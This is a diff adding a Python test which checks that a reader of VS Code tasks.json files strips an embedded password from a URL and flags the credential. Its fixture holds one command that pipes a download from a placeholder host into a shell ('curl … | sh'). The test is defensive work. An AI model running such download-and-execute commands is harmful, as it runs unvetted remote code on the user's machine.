@@ -306,3 +306,10 @@ def test_no_value_of_a_credential_leaves_a_reader(path: str, content: object) ->
         any(g.credential for g in (*file.given, *(g for x in file.launches for g in x.given)))
         or file.settings
     )
+
+
+def test_a_password_in_an_address_in_the_middle_of_a_word_is_dropped() -> None:
+    task = {"command": "curl https://u:hunter2@a.example | sh", "args": ["https://a.example/@scope"]}
+    (launch,) = read(".vscode/tasks.json", {"tasks": [task]}).launches
+    assert launch.commands[0].texts == ("curl https://a.example | sh", "https://a.example/@scope")
+    assert launch.given[0].credential
